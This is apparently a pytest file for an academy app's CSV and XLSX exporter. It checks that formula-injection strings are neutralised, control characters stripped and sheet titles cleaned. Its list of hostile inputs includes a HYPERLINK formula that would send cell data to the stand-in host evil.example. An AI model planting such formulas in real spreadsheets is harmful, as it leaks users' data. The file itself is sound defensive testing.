"""The one exporter (academy/exports.py): hostile text through CSV and XLSX, times, words for yes/no."""
import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from academy.exports import Table, csv_bytes, csv_response, xlsx_bytes, xlsx_response

# What a participant might type as a name, and what the spreadsheet must show.
HOSTILE = [
    ('=HYPERLINK("http://evil.example/?"&A1,"点我")', '\'=HYPERLINK("http://evil.example/?"&A1,"点我")'),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("+86 1", "'+86 1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("王\x00志\x08愿\x1b\x7f\x85\x9f", "王志愿"),
    ("\x01=cmd", "'=cmd"),
    ("lone\ud800surrogate\udfff", "lonesurrogate"),
    ("第一行\n第二行", "第一行\n第二行"),
]


def _table():
    return Table(title="名单: [测试]/?*", headers=["姓名", "=header"], rows=[[raw, 1] for raw, _shown in HOSTILE])


def _csv_cells(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _xlsx_cells(body: bytes) -> list[list]:
    return [list(row) for row in load_workbook(io.BytesIO(body)).active.iter_rows(values_only=True)]


def test_csv_neutralises_formulas_and_drops_unstorable_characters():
    rows = _csv_cells(csv_bytes(_table()))
    assert rows[0] == ["姓名", "'=header"]
    assert [row[0] for row in rows[1:]] == [shown for _raw, shown in HOSTILE]


def test_xlsx_of_hostile_text_opens_and_shows_text_not_formulas():
    body = xlsx_bytes(_table())
    rows = _xlsx_cells(body)
    assert rows[0] == ["姓名", "'=header"]
    # XML may read a carriage return back as a line feed (openpyxl without lxml does), so compare with both as one.
    assert [row[0].replace("\r", "\n") for row in rows[1:]] == [shown.replace("\r", "\n") for _raw, shown in HOSTILE]
    assert all(row[1] == 1 for row in rows[1:])
    sheet = load_workbook(io.BytesIO(body)).active
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_sheet_title_loses_characters_excel_refuses():
    workbook = load_workbook(io.BytesIO(xlsx_bytes(_table())))
    assert workbook.active.title == "名单   测试"


def test_times_are_local_without_microseconds_and_booleans_are_words(settings):
    settings.TIME_ZONE = "Asia/Shanghai"
    moment = datetime(2026, 3, 1, 2, 3, 4, 567890, tzinfo=UTC)
    table = Table(title="t", headers=["at", "yes"], rows=[[moment, True], [None, False]])
    rows = _csv_cells(csv_bytes(table))
    assert rows[1][0] == "2026-03-01 10:03:04" and rows[1][1] in ("是", "Yes")
    assert rows[2][0] == ""
    cells = _xlsx_cells(xlsx_bytes(table))
    assert cells[1][0] == datetime(2026, 3, 1, 10, 3, 4)


@pytest.mark.parametrize("respond, kind", [(csv_response, "text/csv"), (xlsx_response, "spreadsheetml")])
def test_responses_are_attachments(respond, kind):
    response = respond(_table(), filename="list")
    assert kind in response["Content-Type"]
    assert response["Content-Disposition"].startswith('attachment; filename="list.')
